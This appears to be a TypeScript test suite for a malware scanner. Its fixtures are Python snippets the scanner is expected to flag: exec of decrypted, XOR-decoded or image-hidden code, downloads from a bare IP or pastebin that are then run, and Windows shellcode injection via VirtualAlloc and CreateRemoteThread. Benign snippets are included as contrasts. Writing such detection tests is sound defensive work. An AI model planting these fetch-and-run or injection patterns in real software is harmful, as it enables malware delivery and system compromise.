import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BytesSource } from '../src/bytes/byte-source.ts';
import { scanSource } from '../src/index.ts';

const told = async (name: string, content: string): Promise<string> => {
  const { verdict, detections } = await scanSource(name, new BytesSource(Buffer.from(content)));
  return [verdict, ...new Set(detections.map(({ technique }) => technique))].join(' ');
};

/** Code that is computed and run. */
const COMPUTED = [
  "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'd'))",
  "from cryptography.fernet import Fernet\nf = Fernet(k)\ncode = f.decrypt(d).decode()\nexec(compile(code, 'x', 'exec'))",
  'from Crypto.Cipher import AES\nexec(AES.new(k, AES.MODE_EAX, n).decrypt(d))',
  'from Crypto.Cipher import AES\nexec(AES.new(k, AES.MODE_GCM, n).decrypt_and_verify(d, t).decode())',
  'c = Cipher(algorithms.AES(k), modes.CBC(i)).decryptor()\nexec(c.update(d) + c.finalize())',
  "exec(bytes(b ^ 23 for b in b'abc'))",
  "d = b'abc'\nexec(bytearray(b ^ k for b in d).decode())",
  'exec(bytes((b - 3) % 256 for b in d))',
  'exec(bytes(map(lambda b: b ^ 23, d)))',
  'def x(d, k):\n    return bytes(b ^ k for b in d)\nexec(x(a, 1))',
  'def x(d, k): return bytes(b ^ k for b in d)\nexec(x(a, 1))',
  'x = lambda d: bytes(b ^ 1 for b in d)\nexec(x(a))',
  "exec(''.join(map(chr, [112, 97])))",
  "exec(s.translate(str.maketrans('abc', 'bca')))",
  "exec((123456789).to_bytes(8, 'big'))",
  'import numpy as np\nexec((np.frombuffer(d, np.uint8) ^ 23).tobytes())',
  "from PIL import Image\nexec(bytes(Image.open('x.png').getdata()))",
  "from PIL import Image\nimg = Image.open('x.png')\nexec(img.tobytes().decode())",
  "from PIL import Image\nexec(Image.open('x.png').info['code'])",
  "from stegano import lsb\nexec(lsb.reveal('x.png'))",
  "exec(open('x.png', 'rb').read()[1000:])",
  "data = open('logo.jpg', 'rb').read()\nexec(data.split(b'MARK')[1])",
  'import os\nfrom cryptography.fernet import Fernet\nos.system(Fernet(k).decrypt(d).decode())',
];
/** Programs that are fetched to a file from a host without a name, and run. */
const DROPPED = [
  "import os\nfrom urllib.request import urlretrieve\nurlretrieve('http://1.2.3.4/x', '/tmp/x')\nos.chmod('/tmp/x', 0o755)\nos.system('/tmp/x')",
  "import os, urllib.request\np = '/tmp/x'\nurllib.request.urlretrieve('http://1.2.3.4/x', p)\nos.system(f'{p} &')",
  "import requests, subprocess\nr = requests.get('http://1.2.3.4/x')\nopen('/tmp/x', 'wb').write(r.content)\nsubprocess.run(['/tmp/x'])",
  "import os, requests\nwith open('x.exe', 'wb') as f:\n    f.write(requests.get('http://1.2.3.4/x').content)\nos.startfile('x.exe')",
  "import requests, subprocess, sys\nwith open('/tmp/a.py', 'wb') as f:\n    for c in requests.get('http://1.2.3.4/a', stream=True).iter_content(9):\n        f.write(c)\nsubprocess.Popen([sys.executable, '/tmp/a.py'])",
  "import requests, sys\nopen('/tmp/evil.py', 'w').write(requests.get('http://1.2.3.4/e').text)\nsys.path.insert(0, '/tmp')\nimport evil",
  "import requests, importlib\nopen('/tmp/evil.py', 'w').write(requests.get('http://1.2.3.4/e').text)\nimportlib.import_module('evil')",
  "import runpy, requests\nopen('/tmp/e.py', 'w').write(requests.get('http://1.2.3.4/e').text)\nrunpy.run_path('/tmp/e.py')",
  "import ctypes\nfrom urllib.request import urlretrieve\nurlretrieve('http://1.2.3.4/x.so', '/tmp/x.so')\nctypes.CDLL('/tmp/x.so')",
  "import pathlib, requests, subprocess\np = pathlib.Path('/tmp/x')\np.write_bytes(requests.get('http://1.2.3.4/x').content)\nsubprocess.call([p])",
  "import os, shutil, urllib.request\nwith urllib.request.urlopen('http://1.2.3.4/x') as r, open('/tmp/x', 'wb') as f:\n    shutil.copyfileobj(r, f)\nos.execv('/tmp/x', ['/tmp/x'])",
  "import os, tempfile, urllib.request\np = tempfile.mktemp()\nurllib.request.urlretrieve('http://1.2.3.4/x', p)\nos.system(p)",
  "import os, urllib.request\nu = urllib.request.Request('http://1.2.3.4/x')\nopen('/tmp/x', 'wb').write(urllib.request.urlopen(u).read())\nos.system('sh /tmp/x')",
  "import os, requests\nopen('x.sh', 'w').write(requests.get('https://pastebin.com/raw/x').text)\nos.system('bash x.sh')",
  "import requests\nopen('/tmp/e.py', 'w').write(requests.get('http://1.2.3.4/e').text)\nexec(open('/tmp/e.py').read())",
  'import requests\ndef get():\n    return requests.get(u).text\nexec(get())',
];
const IN_MEMORY = [
  'import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, n, 0x3000, 0x40)\nk.RtlMoveMemory(p, s, n)\nh = k.CreateThread(0, 0, p, 0, 0, 0)',
  "import ctypes\np = ctypes.WinDLL('kernel32').VirtualAlloc(0, n, 12288, 64)\nctypes.CFUNCTYPE(ctypes.c_int)(p)()",
  'from ctypes import *\np = windll.kernel32.VirtualAllocEx(h, 0, n, 12288, 64)\nwindll.kernel32.WriteProcessMemory(h, p, s, n, 0)\nwindll.kernel32.CreateRemoteThread(h, 0, 0, p, 0, 0, 0)',
];
/** Programs from a host with a name, or one that is put in later: what honest tools do, and a person should see. */
const NAMED = [
  "import os\nfrom urllib.request import urlretrieve\nurlretrieve('https://github.com/o/cloudflared', 'cloudflared')\nos.system('./cloudflared tunnel')",
  "import subprocess, sys\nfrom urllib.request import urlretrieve\nurlretrieve('https://bootstrap.pypa.io/get-pip.py', 'get-pip.py')\nsubprocess.run([sys.executable, 'get-pip.py'])",
  "import requests, subprocess\nopen('tool', 'wb').write(requests.get(URL).content)\nsubprocess.run(['./tool'])",
];
const HARMLESS = [
  "import torch\nfrom urllib.request import urlretrieve\nurlretrieve('http://images.example/w.pth', 'w.pth')\nmodel.load_state_dict(torch.load('w.pth'))",
  "import requests, torch, subprocess\nr = requests.get(url, stream=True)\nwith open('w.bin', 'wb') as f:\n    for c in r.iter_content(9): f.write(c)\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\nsubprocess.run(['ffmpeg', '-i', 'w.bin', 'x.mp4'])",
  "import os, urllib.request\nurllib.request.urlretrieve('http://x.example/data.zip', 'data.zip')\nos.system('unzip data.zip')\nos.system('python train.py')",
  "import os, urllib.request\nurllib.request.urlretrieve('http://x.example/d.tar', '/tmp/d.tar')\nos.system('tar xf /tmp/d.tar -C data')\nimport data",
  "import requests\nwith open('helper_functions.py', 'wb') as f:\n    f.write(requests.get('https://raw.githubusercontent.com/m/d/main/helper_functions.py').content)\nfrom helper_functions import plot",
  "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nctypes.CDLL(None)\nctypes.cdll.LoadLibrary('libcudart.so')\nctypes.cast(p, ctypes.c_void_p)",
  'import ctypes\nctypes.windll.kernel32.SetConsoleMode(ctypes.windll.kernel32.GetStdHandle(-11), 7)\nctypes.CFUNCTYPE(None)(callback)',
  "from PIL import Image\nimport cv2\nimg = cv2.imread('x.png')\nmodel.eval()\nlabel = eval(args.label)(Image.open('y.png'))\nx = eval('a + b')",
  "from cryptography.fernet import Fernet\nimport json, subprocess\npassword = Fernet(k).decrypt(d).decode()\nconfig = json.loads(Fernet(k).decrypt(d))\nsubprocess.run(['mysql', '-p' + password])\nsubprocess.run(f'mysql -p{password} x', shell=True)",
  'import numpy as np\nx = np.bitwise_xor(a, b)\nh = bytes(p ^ q for p, q in zip(a, b))\nd = x.tobytes()\nprint(eval(repr(len(d))))',
  "def get(u):\n    return requests.get(u).content\nimport io, requests, torch\nw = torch.load(io.BytesIO(get(u)))\nopen('x.json', 'wb').write(get(v))",
  "with open('version.py') as f:\n    exec(f.read(), names)\nexec(bytes(source, 'utf-8'))\nexec(open(f'{here}/version.py').read())",
  "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', f'{package}=={version}'])\nsubprocess.run(f'{sys.executable} setup.py build', shell=True)",
  "import os\nos.system(f'python {script} --lr {lr}')\nos.system('rm -rf {}/x'.format(d))",
  "import tempfile, subprocess\np = tempfile.mktemp(suffix='.wav')\naudio.export(p)\nsubprocess.run(['ffmpeg', '-i', p])",
];

describe('Python is judged by what it makes of what it fetches and computes', () => {
  it('code out of a cipher, of numbers or a picture is hidden code', async () => {
    for (const text of COMPUTED)
      for (const name of ['a.py', '__init__.py'])
        assert.equal(await told(name, text), 'suspicious hidden-code', text);
    const setup = `from setuptools import setup\nfrom setuptools.command.install import install\nfrom cryptography.fernet import Fernet\nclass I(install):\n    def run(self):\n        exec(Fernet(b'k').decrypt(b'd'))\nsetup(cmdclass={'install': I})\n`;
    assert.match(await told('setup.py', setup), /^suspicious .*hidden-code/);
  });

  it('a program that is fetched to a file is run', async () => {
    for (const text of DROPPED) assert.equal(await told('a.py', text), 'suspicious notebook-shell', text);
    for (const text of NAMED) assert.equal(await told('a.py', text), 'review installer', text);
  });

  it('machine code is put into memory and run', async () => {
    for (const text of IN_MEMORY) assert.equal(await told('a.py', text), 'suspicious hidden-code', text);
  });

  it('and what is honest is not refused', async () => {
    for (const text of HARMLESS) assert.equal(await told('train.py', text), 'clean', text);
  });
});
